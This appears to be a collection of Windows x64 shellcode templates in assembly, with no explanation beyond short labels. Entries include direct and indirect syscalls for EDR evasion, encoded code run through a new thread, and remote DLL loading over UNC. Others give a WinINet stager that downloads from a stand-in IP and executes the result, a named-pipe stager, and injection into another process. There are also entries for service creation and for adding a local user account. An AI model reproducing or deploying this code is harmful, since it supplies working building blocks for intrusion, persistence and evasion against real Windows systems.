; Windows, 64 bit: system calls by numbers that ntdll's stubs give, threads and callbacks, pipes, services, users, other
; processes, hashes, the switch to 32 bits.

;= w64_hells_gate 64 | windows x86_64 | call NtAllocateVirtualMemory
%include "windows64_calls.inc"
HASH64 h_nt, 'NtAllocateVirtualMemory'
	RESOLVER64
	mov rax, [gs:0x60]
	mov rax, [rax + 0x18]
	mov rax, [rax + 0x20]
	mov rax, [rax]
	mov rcx, [rax + 0x20]
	mov edx, h_nt
	call rbp
	cmp dword [rax], 0xb8d18b4c
	jne out
	mov r12d, [rax + 4]
	sub rsp, 0x40
	and rsp, -16
	xor r8, r8
	mov [rsp], r8
	lea rdx, [rsp]
	mov qword [rsp + 8], 0x1000
	lea r9, [rsp + 8]
	push 0x40
	push 0x3000
	sub rsp, 0x28
	or rcx, -1
	mov r10, rcx
	mov eax, r12d
	syscall
out:	ret

;= w64_indirect_syscall 64 | windows x86_64 | call NtAllocateVirtualMemory
%include "windows64_calls.inc"
HASH64 h_nt, 'NtAllocateVirtualMemory'
	RESOLVER64
	mov rax, [gs:0x60]
	mov rax, [rax + 0x18]
	mov rax, [rax + 0x20]
	mov rax, [rax]
	mov rcx, [rax + 0x20]
	mov edx, h_nt
	call rbp
	mov r12d, [rax + 4]
	lea r13, [rax + 0x12]
	sub rsp, 0x40
	and rsp, -16
	xor r8, r8
	mov [rsp], r8
	lea rdx, [rsp]
	mov qword [rsp + 8], 0x1000
	lea r9, [rsp + 8]
	push 0x40
	push 0x3000
	sub rsp, 0x20
	or rcx, -1
	mov r10, rcx
	mov eax, r12d
	call r13
	ret

;= w64_alloc_copy_thread 64 | windows x86_64 | execute calc
%include "windows64_calls.inc"
HASH64 h_va, 'VirtualAlloc'
HASH64 h_ct, 'CreateThread'
HASH64 h_wf, 'WaitForSingleObject'
HASH64 h_we, 'WinExec'
	RESOLVER64
	xor ecx, ecx
	mov edx, 0x1000
	mov r8d, 0x3000
	mov r9d, 0x40
	CALL64 rbx, h_va
	mov rdi, rax
	lea rsi, [rel code]
	mov ecx, code_end - code
	push rdi
next:	lodsb
	xor al, 0x27
	stosb
	loop next
	mov rcx, rbx
	mov edx, h_we
	call rbp
	mov r9, rax
	pop r8
	xor ecx, ecx
	xor edx, edx
	mov [rsp + 0x20], rcx
	mov [rsp + 0x28], rcx
	CALL64 rbx, h_ct
	mov rcx, rax
	or edx, -1
	CALL64 rbx, h_wf
	ret
code:	db 0x48 ^ 0x27, 0x83 ^ 0x27, 0xec ^ 0x27, 0x28 ^ 0x27, 0x48 ^ 0x27, 0x89 ^ 0x27, 0xc8 ^ 0x27
	db 0x6a ^ 0x27, 0x00 ^ 0x27, 0x68 ^ 0x27, 'c' ^ 0x27, 'a' ^ 0x27, 'l' ^ 0x27, 'c' ^ 0x27, 0x48 ^ 0x27, 0x89 ^ 0x27, 0xe1 ^ 0x27
	db 0x6a ^ 0x27, 1 ^ 0x27, 0x5a ^ 0x27, 0xff ^ 0x27, 0xd0 ^ 0x27, 0xc3 ^ 0x27
code_end:

;= w64_unc_library 64 | windows x86_64 | call 192.0.2.44
%include "windows64_calls.inc"
	RESOLVER64
	lea rcx, [rel name]
	CALL64 rbx, load_library
HASH64 h_ep, 'ExitProcess'
	xor ecx, ecx
	CALL64 rbx, h_ep
name:	db '\\192.0.2.44\share\k.dll', 0

;= w64_named_pipe 64 | windows x86_64 | call file.open
%include "windows64_calls.inc"
HASH64 h_cf, 'CreateFileA'
HASH64 h_rf, 'ReadFile'
	RESOLVER64
	lea rcx, [rel name]
	mov edx, 0xc0000000
	xor r8d, r8d
	xor r9d, r9d
	mov qword [rsp + 0x20], 3
	mov [rsp + 0x28], r8
	mov [rsp + 0x30], r8
	CALL64 rbx, h_cf
	mov rcx, rax
	lea rdx, [rsp + 0x80]
	mov r8d, 0x40
	lea r9, [rsp + 0x70]
	CALL64 rbx, h_rf
	lea rax, [rsp + 0x80]
	jmp rax
name:	db '\\.\pipe\kenbi', 0

;= w64_service 64 | windows x86_64 | call service.create kenbisvc
%include "windows64_calls.inc"
HASH64 h_os, 'OpenSCManagerA'
HASH64 h_cs, 'CreateServiceA'
	RESOLVER64
	lea rcx, [rel lib]
	CALL64 rbx, load_library
	mov rdi, rax
	xor ecx, ecx
	xor edx, edx
	mov r8d, 2
	CALL64 rdi, h_os
	mov rcx, rax
	lea rdx, [rel name]
	lea r8, [rel name]
	mov r9d, 0xf01ff
	mov qword [rsp + 0x20], 0x10
	mov qword [rsp + 0x28], 2
	CALL64 rdi, h_cs
	ret
lib:	db 'advapi32', 0
name:	db 'kenbisvc', 0

;= w64_callback 64 | windows x86_64 | execute calc
%include "windows64_calls.inc"
HASH64 h_en, 'EnumSystemLocalesA'
HASH64 h_we, 'WinExec'
	RESOLVER64
	lea rcx, [rel routine]
	xor edx, edx
	CALL64 rbx, h_en
	ret
routine: sub rsp, 0x28
	lea rcx, [rel command]
	mov edx, 1
	CALL64 rbx, h_we
	add rsp, 0x28
	xor eax, eax
	ret
command: db 'calc.exe', 0

;= w64_crc32_walk 64 | windows x86_64 | execute calc
	xor ecx, ecx
	mov rax, [gs:rcx + 0x60]
	mov rax, [rax + 0x18]
	mov rsi, [rax + 0x10]
	lodsq
	mov rsi, [rax]
	mov rdi, [rsi + 0x30]
	mov ebx, [rdi + 0x3c]
	mov ebx, [rdi + rbx + 0x88]
	add rbx, rdi
	mov esi, [rbx + 0x20]
	add rsi, rdi
	xor ecx, ecx
name:	mov r9d, [rsi + rcx * 4]
	add r9, rdi
	inc ecx
	xor edx, edx
char:	crc32 edx, byte [r9]
	inc r9
	cmp byte [r9], 0
	jne char
	mov eax, 0
	crc32 eax, byte [rel want]
	crc32 eax, byte [rel want + 1]
	crc32 eax, byte [rel want + 2]
	crc32 eax, byte [rel want + 3]
	crc32 eax, byte [rel want + 4]
	crc32 eax, byte [rel want + 5]
	crc32 eax, byte [rel want + 6]
	cmp edx, eax
	jne name
	mov edx, [rbx + 0x24]
	add rdx, rdi
	movzx ecx, word [rdx + rcx * 2 - 2]
	mov edx, [rbx + 0x1c]
	add rdx, rdi
	mov eax, [rdx + rcx * 4]
	add rax, rdi
	mov ecx, 'calc'
	push rcx
	mov rcx, rsp
	mov edx, 1
	sub rsp, 0x28
	call rax
	jmp $
want:	db 'WinExec'

;= w64_vquery_hunt 64 | windows x86_64 | -
%include "windows64_calls.inc"
HASH64 h_vq, 'VirtualQuery'
	RESOLVER64
	mov rcx, rbx
	mov edx, h_vq
	call rbp
	mov r14, rax
	xor r15d, r15d
region:	mov rcx, r15
	lea rdx, [rsp + 0x40]
	mov r8d, 48
	call r14
	test eax, eax
	jz out
	mov rdi, [rsp + 0x40]
	mov rcx, [rsp + 0x58]
	lea r15, [rdi + rcx]
	cmp dword [rsp + 0x60], 0x1000
	jne region
	shr rcx, 3
	mov rax, 0x696e656b696e656b
	cld
	repne scasq
	jne region
	jmp rdi
out:	ret

;= w64_to_32 64 | windows x86 | execute calc
	lea rax, [rel low]
	push 0x23
	push rax
	retfq
low:
bits 32
%include "demo_resolve.inc"
HASH h_we, 'WinExec'
	RESOLVER
	push byte 0
	push dword 'calc'
	mov ecx, esp
	push byte 1
	push ecx
	push dword h_we
	push ebx
	call ebp
	call eax
	jmp short $

;= w64_wininet_stageless 64 | windows x86_64 | download 192.0.2.87
%include "windows64_calls.inc"
HASH64 h_io, 'InternetOpenA'
HASH64 h_ou, 'InternetOpenUrlA'
HASH64 h_rf, 'InternetReadFile'
HASH64 h_va, 'VirtualAlloc'
	RESOLVER64
	lea rcx, [rel lib]
	CALL64 rbx, load_library
	mov rdi, rax
	lea rcx, [rel agent]
	xor edx, edx
	xor r8d, r8d
	xor r9d, r9d
	mov [rsp + 0x20], rdx
	CALL64 rdi, h_io
	mov rcx, rax
	lea rdx, [rel url]
	xor r8d, r8d
	xor r9d, r9d
	mov dword [rsp + 0x20], 0x84003200
	mov [rsp + 0x38], r8
	CALL64 rdi, h_ou
	mov r12, rax
	xor ecx, ecx
	mov edx, 0x10000
	mov r8d, 0x1000
	mov r9d, 0x40
	CALL64 rbx, h_va
	mov r13, rax
	mov rcx, r12
	mov rdx, r13
	mov r8d, 0x2000
	lea r9, [rsp + 0x60]
	CALL64 rdi, h_rf
	jmp r13
lib:	db 'wininet', 0
agent:	db 'Mozilla/5.0', 0
url:	db 'https://192.0.2.87:8443/abcd', 0

;= w64_inject 64 | windows x86_64 | -
%include "windows64_calls.inc"
HASH64 h_op, 'OpenProcess'
HASH64 h_va, 'VirtualAllocEx'
HASH64 h_wp, 'WriteProcessMemory'
HASH64 h_cr, 'CreateRemoteThread'
	RESOLVER64
	mov ecx, 0x1fffff
	xor edx, edx
	mov r8d, 1234
	CALL64 rbx, h_op
	mov rdi, rax
	mov rcx, rdi
	xor edx, edx
	mov r8d, 0x1000
	mov r9d, 0x3000
	mov qword [rsp + 0x30], 0x40
	CALL64 rbx, h_va
	mov rsi, rax
	mov rcx, rdi
	mov rdx, rsi
	lea r8, [rel data]
	mov r9d, 8
	CALL64 rbx, h_wp
	mov rcx, rdi
	xor edx, edx
	xor r8d, r8d
	mov r9, rsi
	CALL64 rbx, h_cr
	ret
data:	times 8 db 0x90

;= w64_netuser 64 | windows x86_64 | user kenbi
%include "windows64_calls.inc"
HASH64 h_na, 'NetUserAdd'
	RESOLVER64
	lea rcx, [rel lib]
	CALL64 rbx, load_library
	mov rdi, rax
	sub rsp, 0x100
	lea rax, [rel name]
	mov [rsp + 0x60], rax
	mov [rsp + 0x68], rax
	mov dword [rsp + 0x74], 1
	xor ecx, ecx
	mov edx, 1
	lea r8, [rsp + 0x60]
	xor r9d, r9d
	CALL64 rdi, h_na
	ret
lib:	db 'netapi32', 0
name:	dw 'k','e','n','b','i',0

;= w64_reflective_walkback 64 | windows x86_64 | -
	call here
here:	pop rax
back:	dec rax
	cmp word [rax], 'MZ'
	jne back
	mov rcx, [gs:0x60]
	mov rcx, [rcx + 0x18]
	mov rcx, [rcx + 0x20]
	mov rcx, [rcx]
	mov rcx, [rcx]
	mov rcx, [rcx + 0x20]
	mov edx, [rcx + 0x3c]
	mov edx, [rcx + rdx + 0x88]
	add rdx, rcx
	mov esi, [rdx + 0x20]
	add rsi, rcx
	ret
